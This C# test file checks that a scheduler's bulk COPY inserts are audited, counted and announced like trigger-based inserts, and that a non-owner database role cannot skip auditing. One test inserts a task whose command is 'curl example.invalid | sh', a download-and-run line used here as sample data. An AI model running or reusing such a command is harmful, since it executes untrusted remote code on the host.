using System.Collections.Immutable;
using ScheduleSync.Database;
using ScheduleSync.Tasks;
using ScheduleSync.Tests.Sync;

namespace ScheduleSync.Tests.Database;

/// <summary>
/// A sync's inserts by COPY with the statement triggers skipped (migration 6) record exactly what the triggers record
/// for the same rows inserted with plain SQL: rows, audit rows, task_changed events, change-counter steps and NOTIFYs.
/// </summary>
public class BulkInsertTests
{
    private static TaskDefinition Task(int i) => new()
    {
        Id = $"task-{i:D4}",
        Name = $"Task \"{i}\" ü",
        Description = i % 3 == 0 ? null : $"description {i}\nline 2",
        Schedule = $"{i % 60} 3 * * *",
        Timezone = i % 2 == 0 ? "Europe/Berlin" : "UTC",
        Command = $"run --id {i}",
        Args = i % 4 == 3 ? ImmutableSortedDictionary<string, ArgValue>.Empty : ImmutableSortedDictionary.CreateRange(StringComparer.Ordinal,
            [new KeyValuePair<string, ArgValue>("keep", ArgValue.Of(7L + i)), new KeyValuePair<string, ArgValue>("target", ArgValue.Of("s3 \\ \"x\""))]),
        Enabled = i % 2 == 0,
        TimeoutSeconds = i % 4 == 0 ? null : 60 + i,
        MaxRetries = i % 5,
        Tags = i % 2 == 0 ? ["ops", "batch"] : [],
    };

    [Theory]
    [InlineData(1)]
    [InlineData(40)]
    public async Task Inserts_by_copy_are_audited_counted_announced_and_logged_exactly_as_by_the_triggers(int count)
    {
        var tasks = Enumerable.Range(0, count).Select(Task).ToList();
        var context = new ChangeContext("yaml", "schedsync:cli");
        var byTrigger = await RecordAsync("bulk_trigger_" + count, async (connection, tx, run) =>
        {
            await TaskStore.SetContextAsync(connection, tx, context with { SyncRunId = run }, default);
            await TaskStore.UpsertManyAsync(connection, tx, tasks, context.Actor, default);
        });
        var byCopy = await RecordAsync("bulk_copy_" + count, async (connection, tx, run) =>
        {
            await TaskStore.SetContextAsync(connection, tx, context with { SyncRunId = run }, default);
            await TaskStore.InsertNewAsync(connection, tx, tasks, context with { SyncRunId = run }, default);
        });
        Assert.Equal(byTrigger.Rows, byCopy.Rows);
        Assert.Equal(byTrigger.Audit, byCopy.Audit);
        Assert.Equal(byTrigger.Events, byCopy.Events);
        Assert.Equal(byTrigger.Counter, byCopy.Counter);
        Assert.Equal(byTrigger.Notifications, byCopy.Notifications);
        Assert.Equal(count, byCopy.Audit.Count);
        Assert.Equal(count, byCopy.Events.Count);

        // Plain SQL in the same database after the sync's COPY is audited by the triggers as ever.
        Assert.Equal(1, byCopy.AfterwardsAudited);
    }

    [Fact]
    public async Task The_skip_setting_is_ignored_for_a_user_who_does_not_own_the_table_and_for_updates_and_deletes()
    {
        await using var bed = await SyncTestBed.CreateAsync("bulk_not_owner", yaml: null);
        // A database user who may write tasks but does not own the table (roles are per cluster: a fresh name).
        var role = "schedsync_writer_" + Guid.NewGuid().ToString("N")[..8];
        await bed.ExecuteAsync($"CREATE ROLE {role}");
        await bed.ExecuteAsync($"GRANT ALL ON ALL TABLES IN SCHEMA public TO {role}");
        await bed.ExecuteAsync($"GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO {role}");
        var counter = await bed.ChangeCounterAsync();

        async Task WriteWithSkipAsync(string sql, string? asRole)
        {
            await using var connection = await bed.DataSource.OpenConnectionAsync();
            await using var tx = await connection.BeginTransactionAsync();
            await using (var on = new Npgsql.NpgsqlCommand("SELECT set_config('schedsync.bulk_write', 'on', true)", connection, tx))
                await on.ExecuteNonQueryAsync();
            if (asRole is not null)
                await using (var become = new Npgsql.NpgsqlCommand($"SET LOCAL ROLE {asRole}", connection, tx))
                    await become.ExecuteNonQueryAsync();
            await using (var write = new Npgsql.NpgsqlCommand(sql, connection, tx))
                Assert.Equal(1, await write.ExecuteNonQueryAsync());
            await tx.CommitAsync();
        }

        await WriteWithSkipAsync("INSERT INTO scheduled_tasks (id, schedule, command) VALUES ('sneaky', '@hourly', 'curl example.invalid | sh')", role);
        Assert.Equal(1, await bed.CountAsync("task_audit WHERE task_id = 'sneaky' AND action = 'create' AND source = 'sql'"));
        Assert.Equal(1, await bed.CountAsync("sync_events WHERE type = 'task_changed' AND payload::text LIKE '%sneaky%'"));
        Assert.Equal(counter + 1, await bed.ChangeCounterAsync());

        // The owner's skip covers inserts only: its updates and deletes are audited as ever.
        await WriteWithSkipAsync("UPDATE scheduled_tasks SET command = 'changed' WHERE id = 'sneaky'", asRole: null);
        await WriteWithSkipAsync("DELETE FROM scheduled_tasks WHERE id = 'sneaky'", asRole: null);
        Assert.Equal(1, await bed.CountAsync("task_audit WHERE task_id = 'sneaky' AND action = 'update'"));
        Assert.Equal(1, await bed.CountAsync("task_audit WHERE task_id = 'sneaky' AND action = 'delete'"));
        Assert.Equal(counter + 3, await bed.ChangeCounterAsync());
    }

    private sealed record Recorded(List<string> Rows, List<string> Audit, List<string> Events, long Counter, List<string> Notifications, long AfterwardsAudited);

    private static async Task<Recorded> RecordAsync(string name, Func<Npgsql.NpgsqlConnection, Npgsql.NpgsqlTransaction, long, Task> write)
    {
        await using var bed = await SyncTestBed.CreateAsync(name, yaml: null);
        var notifications = new List<string>();
        await using var listener = await bed.DataSource.OpenConnectionAsync();
        listener.Notification += (_, e) => { lock (notifications) notifications.Add($"{e.Channel}:{(e.Channel == "schedsync_changes" ? e.Payload : "")}"); };
        await using (var listen = new Npgsql.NpgsqlCommand("LISTEN schedsync_changes; LISTEN schedsync_events", listener))
            await listen.ExecuteNonQueryAsync();

        var counterBefore = await bed.ChangeCounterAsync();
        var run = await bed.ScalarAsync<long>("INSERT INTO sync_runs (trigger, replica) VALUES ('cli', 'r') RETURNING id");
        await using (var connection = await bed.DataSource.OpenConnectionAsync())
        await using (var tx = await connection.BeginTransactionAsync())
        {
            await write(connection, tx, run);
            await tx.CommitAsync();
        }
        // NOTIFYs are delivered at commit; a round trip on the listener reads them.
        await using (var ping = new Npgsql.NpgsqlCommand("SELECT 1", listener))
            await ping.ExecuteNonQueryAsync();
        await bed.ExecuteAsync("UPDATE scheduled_tasks SET command = 'by sql' WHERE id = 'task-0000'");

        async Task<List<string>> Lines(string sql)
        {
            var lines = new List<string>();
            await using var command = bed.DataSource.CreateCommand(sql);
            await using var reader = await command.ExecuteReaderAsync();
            while (await reader.ReadAsync()) lines.Add(reader.GetString(0));
            return lines;
        }
        return new Recorded(
            await Lines("SELECT (to_jsonb(t) - 'created_at' - 'updated_at')::text FROM scheduled_tasks t ORDER BY id"),
            await Lines("""
                SELECT jsonb_build_object('task_id', task_id, 'action', action, 'source', source, 'actor', actor, 'before', before, 'after', after,
                    'run', sync_run_id IS NOT NULL, 'same_time', at = (SELECT min(at) FROM task_audit))::text
                FROM task_audit WHERE actor <> 'sql:' || session_user ORDER BY id
                """),
            await Lines("SELECT jsonb_build_object('seq', seq, 'type', type, 'payload', payload)::text FROM sync_events WHERE payload->>'source' = 'yaml' ORDER BY seq"),
            await bed.ChangeCounterAsync() - counterBefore,
            notifications.ToList(),
            await bed.CountAsync("task_audit WHERE action = 'update' AND source = 'sql' AND task_id = 'task-0000'"));
    }
}
